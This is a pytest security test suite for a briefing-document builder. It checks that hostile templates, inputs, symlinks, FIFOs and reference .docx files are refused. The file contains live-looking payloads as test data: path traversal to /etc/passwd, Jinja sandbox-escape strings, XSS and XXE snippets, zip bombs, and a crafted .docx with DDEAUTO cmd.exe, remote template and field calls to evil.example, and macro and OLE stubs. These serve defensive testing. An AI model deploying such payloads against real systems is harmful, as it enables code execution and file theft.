"""Untrusted input: no file leaks, no network, no code, no hangs, no tracebacks.

Briefs, translations and templates come from many volunteers. Each trick here must end in
a clear error (or be shown as plain text), never in a leak, a crash or a hang.
"""
from __future__ import annotations

import base64
import io
import os
import shutil
import zipfile
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from briefing.briefs import check_brief
from briefing.errors import BriefError, Report
from briefing.load.sources import SourceSet
from briefing.load.yamlfile import load_yaml
from briefing.model import Brief
from briefing.validate import validate
from conftest import FIXTURES, ROOT, pdftotext, run_cli


@pytest.fixture
def project(tmp_path) -> Path:
    dest = tmp_path / "p"
    shutil.copytree(FIXTURES / "project", dest)
    shutil.copytree(ROOT / "templates" / "default", dest / "templates" / "evil",
                    ignore=shutil.ignore_patterns("__pycache__", "__init__.py"))
    return dest


def build(project: Path, *args: str) -> tuple[int, str]:
    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "pdf",
                             "--out", str(project / "out"), "--jobs", "0", *args)
    return code, out + err


def append(path: Path, text: str) -> None:
    path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


# --- the PDF renderer's files ----------------------------------------------------------

@pytest.mark.parametrize("url,reason", [
    ("../../../../../../etc/passwd", "file is outside the template and assets folders"),
    ("%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "paths with '..' are refused"),
    ("..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd", "paths with '..' are refused"),
    ("file:///etc/passwd", "file is outside the template and assets folders"),
    ("http://example.org/track.png", "network access is refused"),
    ("https://example.org/style.css", "network access is refused"),
    ("ftp://example.org/x", "network access is refused"),
    ("missing-image.png", "file not found"),
])
def test_template_resources_are_confined(project, url, reason):
    append(project / "templates" / "evil" / "style.css", f'\n.trick {{ background: url("{url}"); }}\n')
    html = project / "templates" / "evil" / "document.html"
    html.write_text(html.read_text().replace("<body", '<div class="trick">x</div><body', 1))
    code, out = build(project)
    assert code == 1
    assert f"resource refused ({reason}" in out
    assert "Traceback" not in out and not (project / "out" / "en" / "good.pdf").exists()


def test_symlink_out_of_the_template_folder_is_refused(project):
    (project / "templates" / "evil" / "innocent.css").symlink_to("/etc/passwd")
    head = project / "templates" / "evil" / "head.html"
    head.write_text(head.read_text().replace("</head>", '<link rel="stylesheet" href="innocent.css"></head>'))
    assert "innocent.css" in head.read_text()
    code, out = build(project)
    assert code == 1 and "file is outside the template and assets folders" in out


def test_large_data_url_is_refused_small_one_and_assets_work(project):
    html = project / "templates" / "evil" / "document.html"
    big = base64.b64encode(b"\0" * 3_000_000).decode()
    original = html.read_text()
    html.write_text(original.replace("<body", f'<img src="data:image/png;base64,{big}"><body', 1))
    code, out = build(project)
    assert code == 1 and "data: URL larger than" in out
    # an image in assets/ through briefing.toml, and a small data: URL, are fine
    (project / "assets").mkdir()
    shutil.copy(ROOT / "tests" / "fixtures" / "logo.svg", project / "assets" / "logo.svg")
    (project / "briefing.toml").write_text('[organization]\nname = "Test Org"\nlogo = "assets/logo.svg"\n')
    html.write_text(original)
    code, out = build(project)
    assert code == 0, out


# --- the templates' code ---------------------------------------------------------------

@pytest.mark.parametrize("payload", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ doc|attr('__class__') }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(doc) }}",
    "{{ '{x.__class__}'.format_map({'x': doc}) }}",
    "{{ doc.word.__globals__ }}",
    "{{ cycler.__init__.__globals__.os }}",
])
def test_sandbox_stops_escape_payloads(project, payload):
    html = project / "templates" / "evil" / "document.html"
    lines = html.read_text().split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith("<body"))
    lines.insert(at + 1, payload)
    html.write_text("\n".join(lines))
    code, out = build(project)
    assert code == 1
    assert f"templates/evil/document.html:{at + 2}: error: template" in out, out
    assert "Traceback" not in out


def test_template_cannot_include_files_outside_its_folder(project):
    html = project / "templates" / "evil" / "document.html"
    append(html, '{% include "../../../../etc/passwd" %}')
    code, out = build(project)
    assert code == 1 and "template error" in out and "root:" not in out


def test_template_output_is_bounded(project):
    html = project / "templates" / "evil" / "document.html"
    append(html, "{% for i in range(100000) %}{% for j in range(100000) %}xxxxxxxxxx{% endfor %}{% endfor %}")
    code, out = build(project)
    assert code == 1 and "template output is larger than" in out


def test_template_syntax_error_has_its_line(project):
    html = project / "templates" / "evil" / "document.html"
    lines = html.read_text().split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith("<body"))
    lines[at] = "{% if %}"
    html.write_text("\n".join(lines))
    code, out = build(project)
    assert code == 1 and f"templates/evil/document.html:{at + 1}: error: template syntax error" in out


# --- text is text ------------------------------------------------------------------------

def test_markup_in_briefs_is_shown_not_run(project):
    brief = project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("title: A good brief",
                                               "title: 'A <img src=\"file:///etc/passwd\"> & <script>x</script>'"))
    code, out, err = run_cli("build", "--project", str(project), "--format", "pdf,docx,html",
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 0, out + err
    html = (project / "out" / "en" / "good.html").read_text()
    assert "&lt;img src=“file:///etc/passwd”&gt;" in html and "<script>" not in html and "<img src=\"file" not in html
    assert "<img src=“file:///etc/passwd”> & <script>x</script>" in pdftotext(project / "out" / "en" / "good.pdf").replace("\n", "")
    with zipfile.ZipFile(project / "out" / "en" / "good.docx") as z:
        assert "&lt;img src=“file:///etc/passwd”&gt; &amp; &lt;script&gt;" in z.read("word/document.xml").decode()


# --- a user's reference .docx ------------------------------------------------------------

def reference(project: Path, data: bytes) -> None:
    (project / "templates" / "evil" / "reference.docx").write_bytes(data)


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buf.getvalue()


@pytest.mark.parametrize("make,message", [
    (lambda: b"not a zip at all", "reference document is not a .docx (zip) file"),
    (lambda: b"PK" + os.urandom(11_000_000), "reference document is too large"),
    (lambda: zip_bytes({f"f{i}.xml": b"<a/>" for i in range(600)}), "reference document has too many parts"),
    (lambda: zip_bytes({"word/document.xml": b"\0" * 120_000_000}), "(a zip bomb?)"),
    (lambda: zip_bytes({"word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}),
     "declares XML entities"),
])
def test_reference_docx_limits(project, make, message):
    reference(project, make())
    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "docx",
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 1 and message in out + err and "Traceback" not in out + err


# --- rendering limits --------------------------------------------------------------------

def test_enormous_font_size_ends_quickly(project):
    append(project / "templates" / "evil" / "style.css", "\nhtml { font-size: 50000pt !important; }\n")
    code, out = build(project, "--timeout", "60")
    assert code in (0, 1) and "Traceback" not in out
    if code == 1:
        assert "rendering took longer" in out or "pages" in out


# --- property: the loader accepts or explains, never crashes ----------------------------

SCALARS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=30),
                    st.dates())
KEYS = st.sampled_from(["id", "title", "audience", "date", "languages", "summary", "sections", "facts", "heading",
                        "arguments", "claim", "evidence", "objection", "response", "quotes", "text", "speaker",
                        "source", "value", "format", "label", "x", "paper", "recommendations", "to", "ask"])
TREES = st.recursive(SCALARS, lambda children: st.one_of(st.lists(children, max_size=4),
                                                         st.dictionaries(KEYS, children, max_size=6)), max_leaves=30)


def load_and_check(text: str) -> None:
    try:
        doc = load_yaml(Path("briefs/x.yaml"), "briefs/x.yaml", text=text)
        report = Report()
        brief = validate(doc, Brief, report)
        if brief is not None:
            check_brief(brief, doc, Path("briefs/x.yaml"), SourceSet(), report)
    except BriefError:
        pass


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=300))
def test_any_text_is_accepted_or_explained(text):
    load_and_check(text)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TREES)
def test_any_yaml_tree_is_accepted_or_explained(tree):
    load_and_check(yaml.safe_dump(tree, allow_unicode=True))


@settings(max_examples=100, deadline=None)
@given(st.dictionaries(KEYS, TREES, max_size=8))
def test_brief_shaped_trees(tree):
    base = {"id": "x", "title": "T", "audience": "A", "date": "2024-01-01", "summary": ["S"],
            "sections": [{"heading": "H", "arguments": [{"claim": "C", "evidence": ["E"]}]}]}
    base.update(tree)
    load_and_check(yaml.safe_dump(base, allow_unicode=True, default_flow_style=False))


# === issue 10: attacks made as a hostile contributor would ================================

BRIEFING = [str(Path(__file__).resolve().parents[1] / ".venv" / "bin" / "briefing")]


def cli_subprocess(*args: str, timeout: float = 60) -> tuple[int, str]:
    """The real command in its own process, so a hang fails the test instead of freezing it."""
    import subprocess
    import sys
    cmd = BRIEFING if Path(BRIEFING[0]).exists() else [sys.executable, "-m", "briefing"]
    p = subprocess.run(cmd + list(args), capture_output=True, text=True, timeout=timeout)
    return p.returncode, p.stdout + p.stderr


def insert_in_body(project: Path, text: str, name: str = "document.html") -> int:
    html = project / "templates" / "evil" / name
    lines = html.read_text().split("\n")
    at = next(i for i, line in enumerate(lines) if line.startswith("<body"))
    lines.insert(at + 1, text)
    html.write_text("\n".join(lines))
    return at + 2


# --- 1. formatting on a template's behalf stays inside the sandbox ----------------------

@pytest.mark.parametrize("payload", [
    '{{ t("{x.__init__.__globals__}", x=doc) }}',
    '{{ t("{x.word.__globals__[os].environ}", x=doc) }}',
    '{{ t("{x.__class__.__mro__}", x=doc) }}',
])
def test_template_words_function_does_not_format_attributes(project, payload):
    os.environ["BRIEFING_TEST_SECRET"] = "s3cr3t-token"
    insert_in_body(project, f'<p class="payload">{payload}</p>')
    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "html",
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 0, out + err
    html = (project / "out" / "en" / "good.html").read_text()
    shown = html.split('<p class="payload">')[1].split("</p>")[0]
    assert shown.startswith("{x.") and "s3cr3t" not in html and "__builtins__" not in html and "module" not in shown


def test_fill_allows_plain_names_only():
    from briefing.document import Document
    from briefing.i18n.words import fill
    assert fill("accessed {date}", {"date": "1 May"}) == "accessed 1 May"
    assert fill("{date.__class__} {0} {date!r} {date:>9} {date[0]} {{date}}", {"date": "x"}) == \
        "{date.__class__} {0} {date!r} {date:>9} {date[0]} {x}"
    doc = Document.__new__(Document)
    doc.words = {"as of {date}": "{date.__init__.__globals__} seit {date}"}
    assert doc.word("as of {date}", date="2020") == "{date.__init__.__globals__} seit 2020"


def test_translated_pattern_cannot_format_attributes(tmp_path):
    """A .po translation of a template word with an attribute lookup is shown as written."""
    from briefing.compose import Composer
    from briefing.i18n.catalogs import Translator
    composer = Composer.__new__(Composer)
    composer.words_tr = lambda msgid: ("{date.__class__.__init__.__globals__} {date}", True)
    composer.lang = type("L", (), {"code": "hy"})()
    assert composer.word("accessed {date}", date="2020") == "{date.__class__.__init__.__globals__} 2020"


# --- 2. symlinks and special files --------------------------------------------------------

def outside_file(tmp_path: Path, name: str, text: str) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir(exist_ok=True)
    path = folder / name
    path.write_text(text)
    return path


def test_template_include_of_a_symlink_out_is_refused(project, tmp_path):
    secret = outside_file(tmp_path, "passwd", "root:x:0:0:SECRET-LINE\n")
    (project / "templates" / "evil" / "passwd.html").symlink_to(secret)
    line = insert_in_body(project, '{% include "passwd.html" %}')
    code, out = build(project)
    assert code == 1
    assert f"templates/evil/document.html:{line}: error: template error: refused to read templates/evil/passwd.html: " \
           "it is a symbolic link to a file outside the project" in out, out
    assert "SECRET-LINE" not in out and "Traceback" not in out


def test_symlinked_assets_folder_is_not_an_allowed_root(project, tmp_path):
    secret = outside_file(tmp_path, "id_rsa.png", "SECRET KEY")
    (project / "assets").symlink_to(secret.parent)
    insert_in_body(project, f'<img src="{(project / "assets" / "id_rsa.png").as_uri()}">')
    code, out = build(project)
    assert code == 1 and "resource refused (file is outside the template and assets folders)" in out, out
    assert not (project / "out" / "en" / "good.pdf").exists()


@pytest.mark.parametrize("where,shown", [
    ("briefs/evil.yaml", "briefs/evil.yaml"),
    ("briefs/_shared.yaml", "briefs/_shared.yaml"),
    ("sources/more.yaml", "sources/more.yaml"),
    ("sources/zotero.json", "sources/zotero.json"),
    ("briefing.toml", "briefing.toml"),
])
def test_input_symlinked_out_of_the_project_is_refused(project, tmp_path, where, shown):
    secret = outside_file(tmp_path, "secret.yaml", "id: SECRET-CONTENT\n")
    (project / where).symlink_to(secret)
    code, out, err = run_cli("check", "--project", str(project))
    assert code == 1
    assert f"{shown}: error: refused to read {shown}: it is a symbolic link to a file outside the project" \
        in err, err
    assert "SECRET-CONTENT" not in out + err and str(secret) not in out + err


def test_catalog_symlinked_out_is_refused_and_not_echoed(project, tmp_path):
    secret = outside_file(tmp_path, "x.po", 'AWS_SECRET=abc123 not po syntax\nmsgid "x"\n')
    brief = project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("languages: [en]", "languages: [en, he]"))
    folder = project / "locales" / "he" / "LC_MESSAGES"
    folder.mkdir(parents=True)
    (folder / "good.po").symlink_to(secret)
    code, out, err = run_cli("translate", "check", "--project", str(project))
    code2, out2, err2 = run_cli("check", "--project", str(project))
    text = out + err + out2 + err2
    assert "locales/he/LC_MESSAGES/good.po: error: refused to read locales/he/LC_MESSAGES/good.po: it is a " \
           "symbolic link to a file outside the project" in text, text
    assert "AWS_SECRET" not in text and "abc123" not in text


def test_reference_docx_symlinked_out_is_refused(project, tmp_path):
    secret = tmp_path / "outside.docx"
    shutil.copy(ROOT / "templates" / "default" / "reference.docx", secret)
    (project / "templates" / "evil" / "reference.docx").unlink()
    (project / "templates" / "evil" / "reference.docx").symlink_to(secret)
    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "docx",
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 1
    assert "refused to read templates/evil/reference.docx: it is a symbolic link to a file outside the project" \
        in out + err, out + err


@pytest.mark.parametrize("where,shown", [("briefs/x.yaml", "briefs/x.yaml"), ("sources/x.json", "sources/x.json"),
                                         ("briefs/_shared.yaml", "briefs/_shared.yaml")])
def test_fifo_input_does_not_hang(project, where, shown):
    os.mkfifo(project / where)
    code, out = cli_subprocess("check", "--project", str(project), timeout=60)
    assert code == 1
    assert f"{shown}: error: refused to read {shown}: it is a named pipe (FIFO), not a regular file" in out, out


def test_fifo_template_include_does_not_hang(project):
    os.mkfifo(project / "templates" / "evil" / "pipe.html")
    insert_in_body(project, '{% include "pipe.html" %}')
    code, out = cli_subprocess("build", "--project", str(project), "--template", "evil", "--format", "html",
                               "--out", str(project / "out"), "--jobs", "0", timeout=60)
    assert code == 1
    assert "refused to read templates/evil/pipe.html: it is a named pipe (FIFO), not a regular file" in out, out


# --- 3. writes and deletions stay inside the project ------------------------------------

@pytest.mark.parametrize("value", ['"../elsewhere"', '"/tmp/briefing-elsewhere"', '"build/../.."', '"."'])
def test_config_output_outside_the_project_is_refused(project, value):
    shutil.rmtree("/tmp/briefing-elsewhere", ignore_errors=True)
    (project / "briefing.toml").write_text(f"[build]\noutput = {value}\n")
    code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--format", "html")
    assert code == 1
    assert f"briefing.toml:2:1: error: setting 'build.output': {value[1:-1]!r} is not a folder inside the " \
           "project" in err, err
    assert not (project.parent / "elsewhere").exists() and not Path("/tmp/briefing-elsewhere").exists()


def test_symlinked_build_folder_is_refused_and_nothing_swept(project, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "deep").mkdir(parents=True)
    victim = elsewhere / "deep" / ".briefing-tmp-precious.pdf"
    victim.write_text("work")
    (project / "build").symlink_to(elsewhere)
    code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--format", "html")
    assert code == 1
    assert "build: error: the output folder build is outside the project (or a link out of it)" in err, err
    assert victim.exists() and not list(elsewhere.rglob("*.html"))


def test_symlinked_language_folder_is_refused(project, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (project / "build").mkdir()
    (project / "build" / "en").symlink_to(elsewhere)
    code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--format", "html")
    assert code == 1 and "build/en: error: the output folder build/en is outside the project" in err, err
    assert not list(elsewhere.iterdir())


def test_out_on_the_command_line_may_name_another_folder(project, tmp_path):
    code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--format", "html",
                             "--out", str(tmp_path / "chosen"))
    assert code == 0, out + err
    assert (tmp_path / "chosen" / "en" / "good.html").is_file()


def test_sweep_touches_only_its_own_folders(project, tmp_path):
    out_dir = project / "out"
    (out_dir / "en" / "deeper").mkdir(parents=True)
    own = out_dir / "en" / ".briefing-tmp-killed.pdf"
    own.write_text("x")
    nested = out_dir / "en" / "deeper" / ".briefing-tmp-keep.pdf"
    nested.write_text("x")
    elsewhere = tmp_path / "linked"
    elsewhere.mkdir()
    foreign = elsewhere / ".briefing-tmp-keep.pdf"
    foreign.write_text("x")
    (out_dir / "linked").symlink_to(elsewhere)
    code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--format", "html",
                             "--out", str(out_dir))
    assert code == 0, out + err
    assert not own.exists() and nested.exists() and foreign.exists()


def test_symlinked_locales_folder_is_not_written_through(project, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    brief = project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("languages: [en]", "languages: [en, he]"))
    (project / "locales").symlink_to(elsewhere)
    code, out, err = run_cli("translate", "extract", "--project", str(project))
    assert code == 1
    assert "locales/template.pot: error: refused to write locales/template.pot: its folder is a symbolic link out of the project" in err, err
    assert not list(elsewhere.iterdir())


def test_out_naming_a_file_is_an_error(project):
    (project / "afile").write_text("keep me")
    code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--out", str(project / "afile"))
    assert code == 1 and "error: the output folder " in err and "is a file, not a folder" in err, err
    assert "Traceback" not in err and (project / "afile").read_text() == "keep me"


# --- 9. one build per output folder -------------------------------------------------------

def test_second_build_on_the_same_folder_is_refused(project):
    import fcntl
    out_dir = project / "out"
    out_dir.mkdir()
    with open(out_dir / ".briefing-lock", "w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        tmp = out_dir / ".briefing-tmp-in-progress.pdf"
        tmp.write_text("the first build is writing this")
        code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--out", str(out_dir))
        assert code == 1 and "error: another build is running in " in err, err
        assert tmp.exists()
    code, out, err = run_cli("build", "--project", str(project), "--jobs", "0", "--format", "html",
                             "--out", str(out_dir))
    assert code == 0, out + err


# --- 4. a reference .docx is a Trojan horse -----------------------------------------------

EVIL_HEADER = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">'
    '<w:p><w:r><w:t>Coalition header</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
    '"/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>dde</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x.txt&quot; "><w:r><w:t>inc</w:t></w:r></w:fldSimple>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/p.png" \\\\d'
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r>'
    '<w:r><w:pict><v:imagedata r:id="rIdRemote"/></w:pict></w:r>'
    '<w:hyperlink r:id="rIdLink"><w:r><w:t>click</w:t></w:r></w:hyperlink>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '</w:p></w:hdr>')


def evil_reference(tmp_path: Path, padding_doctype: bool = False) -> bytes:
    src = zipfile.ZipFile(ROOT / "templates" / "default" / "reference.docx")
    parts = {n: src.read(n) for n in src.namelist()}
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace("</Relationships>",
                        '<Relationship Id="rIdH1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/header" Target="header1.xml"/>'
                        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                        'vbaProject" Target="vbaProject.bin"/>'
                        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/hyperlink" Target="file:///etc/passwd" TargetMode="External"/>'
                        "</Relationships>")
    parts["word/_rels/document.xml.rels"] = rels.encode()
    parts["word/header1.xml"] = EVIL_HEADER.encode()
    parts["word/_rels/header1.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rIdRemote" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="http://evil.example/track.png" TargetMode="External"/><Relationship Id="rIdLink" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="javascript:alert(1)" TargetMode="External"/></Relationships>').encode()
    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0OLE-PAYLOAD"
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0MACRO-PAYLOAD"
    settings = parts["word/settings.xml"].decode()
    settings = settings.replace('<w:zoom w:val="bestFit"/>', '<w:zoom w:val="bestFit"/><w:attachedTemplate '
                                'r:id="rIdT"/>').replace("<w:defaultTabStop", "<w:updateFields w:val=\"true\"/>"
                                                                               "<w:defaultTabStop")
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/macros.dotm" TargetMode="External"/>'
        "</Relationships>").encode()
    document = parts["word/document.xml"].decode()
    parts["word/document.xml"] = document.replace(
        "<w:pgSz", '<w:headerReference w:type="default" r:id="rIdH1"/><w:pgSz', 1).replace(
        "<w:body>", "<w:body><w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>").encode()
    if padding_doctype:
        styles = parts["word/styles.xml"].decode()
        head, rest = styles.split("?>", 1)
        parts["word/styles.xml"] = (head + "?><!--" + "x" * 10_000 + '--><!DOCTYPE w [<!ENTITY e SYSTEM '
                                    '"file:///etc/passwd">]>' + rest).encode()
    types = parts["[Content_Types].xml"].decode().replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                    '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-'
                    'officedocument.wordprocessingml.header+xml"/></Types>')
    parts["[Content_Types].xml"] = types.encode()
    return zip_bytes(parts)


def test_reference_docx_active_content_is_never_copied(project, tmp_path):
    reference(project, evil_reference(tmp_path))
    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "docx",
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 0, out + err
    with zipfile.ZipFile(project / "out" / "en" / "good.docx") as z:
        names = z.namelist()
        everything = b"".join(z.read(n) for n in names)
        header = next(z.read(n).decode() for n in names if n.startswith("word/header") and
                      b"Coalition header" in z.read(n))
    assert not [n for n in names if "vba" in n.lower() or "embeddings" in n or "oleObject" in n], names
    for bad in (b"DDEAUTO", b"INCLUDETEXT", b"INCLUDEPICTURE", b"attachedTemplate", b"evil.example", b"javascript:",
                b"file:///", b"OLE-PAYLOAD", b"MACRO-PAYLOAD", b"updateFields", b"OLEObject"):
        assert bad not in everything, bad
    assert "PAGE" in header  # the harmless page-number field of the header stays
    assert 'TargetMode="External"' not in header


def test_reference_docx_entities_beyond_the_first_4096_bytes_are_refused(project, tmp_path):
    reference(project, evil_reference(tmp_path, padding_doctype=True))
    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", "docx",
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 1
    assert "templates/evil/reference.docx: error: reference document part word/styles.xml declares XML entities" \
        in out + err, out + err


# --- 5. templates cannot put active content into outputs ---------------------------------

@pytest.mark.parametrize("payload,message", [
    ('<a href="javascript:alert(1)">x</a>',
     "the template links to 'javascript:alert(1)'; only http(s) and mailto links are allowed"),
    ('<a href=" JaVa\tscript:alert(1)">x</a>',
     "the template links to ' JaVa\\tscript:alert(1)'; only http(s) and mailto links are allowed"),
    ('<a href="file:///etc/passwd">x</a>',
     "the template links to 'file:///etc/passwd'; only http(s) and mailto links are allowed"),
    ('<a href="notes.html">x</a>', "the template links to 'notes.html'; only http(s) and mailto links are allowed"),
    ('<script>alert(1)</script>', "the template writes a <script> element"),
    ('<svg><script>alert(1)</script></svg>', "the template writes a <script> element"),
    ('<img src="x.png" onerror="alert(1)">', "the template writes an event handler (onerror=...)"),
    ('<link rel="attachment" href="style.css">', "the template attaches a file to the output (rel=\"attachment\")"),
    ('<a rel="attachment" href="https://example.org/x">x</a>',
     "the template attaches a file to the output (rel=\"attachment\")"),
    ('<iframe src="https://example.org"></iframe>', "the template writes a <iframe> element"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">',
     "the template writes a <meta http-equiv=\"refresh\"> redirect"),
])
@pytest.mark.parametrize("fmt", ["html", "pdf"])
def test_template_active_content_is_refused(project, payload, message, fmt):
    insert_in_body(project, payload)
    code, out, err = run_cli("build", "--project", str(project), "--template", "evil", "--format", fmt,
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 1
    assert f"templates/evil/document.html: error: {message}" in out + err, out + err
    assert not list((project / "out").rglob(f"*.{fmt}"))


def test_written_pdf_with_active_content_is_refused(tmp_path):
    """The last check on every PDF (defence in depth behind the HTML check): a crafted file
    with a file: link, a Launch action, a script and an attachment."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
    from briefing.errors import Location
    from briefing.render.pdf import preflight
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    annots = ArrayObject()
    for action in ({"/S": "/URI", "/URI": "file:///etc/passwd"}, {"/S": "/Launch", "/F": "calc.exe"}):
        annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                                  NameObject("/A"): DictionaryObject({NameObject(k): (NameObject(v) if v.startswith("/")
                                                                       else TextStringObject(v))
                                                                      for k, v in action.items()})})
        annots.append(writer._add_object(annot))
    page[NameObject("/Annots")] = annots
    writer.add_attachment("secret.txt", b"SECRET")
    names = writer._root_object["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject(
        [TextStringObject("x"), DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                  NameObject("/JS"): TextStringObject("app.alert(1)")})])})
    path = tmp_path / "evil.pdf"
    writer.write(path)
    with pytest.raises(BriefError) as caught:
        preflight(path.read_bytes(), "", Location("templates/evil/document.html"))
    assert caught.value.problems[0].message == (
        "the PDF would carry a /Launch action, a link to 'file:///etc/passwd', a script (/JavaScript), "
        "an attached file (/EmbeddedFiles)")


def test_outputs_carry_no_path_of_the_building_machine(project):
    (project / "assets").mkdir()
    shutil.copy(ROOT / "tests" / "fixtures" / "logo.svg", project / "assets" / "logo.svg")
    (project / "briefing.toml").write_text('[organization]\nname = "Test Org"\nlogo = "assets/logo.svg"\n')
    code, out, err = run_cli("build", "--project", str(project), "--format", "pdf,docx,html",
                             "--out", str(project / "out"), "--jobs", "0")
    assert code == 0, out + err
    for path in (project / "out" / "en").iterdir():
        data = path.read_bytes()
        if path.suffix == ".docx":
            with zipfile.ZipFile(path) as z:
                data = b"".join(z.read(n) for n in z.namelist())
        assert str(project).encode() not in data and b"file:" not in data, path.name
    html = (project / "out" / "en" / "good.html").read_text()
    assert 'class="logo" src="data:image/svg+xml;base64,' in html
    from pypdf import PdfReader
    from briefing.render.active import pdf_problems
    assert pdf_problems(PdfReader(project / "out" / "en" / "good.pdf")) == []


# --- 6. limits in the main process ---------------------------------------------------------

def test_alias_repeating_a_large_string_is_capped_in_bytes(tiny_project):
    big = "x" * 200_000
    text = "id: good\ntitle: &t " + big + "\naudience: A\ndate: 2024-03-01\nsummary: [" + \
        ", ".join(["*t"] * 40) + "]\n"
    (tiny_project / "briefs" / "good.yaml").write_text(text)
    code, out = cli_subprocess("check", "--project", str(tiny_project), timeout=60)
    assert code == 1
    assert "briefs/good.yaml:2:8: error: the document expands to more than 4,000,000 bytes of text" in out, out[:2000]


def test_long_po_entry_is_checked_in_linear_time(project):
    brief = project / "briefs" / "good.yaml"
    brief.write_text(brief.read_text().replace("languages: [en]", "languages: [en, he]"))
    code, out, err = run_cli("translate", "update", "--project", str(project), "--lang", "he")
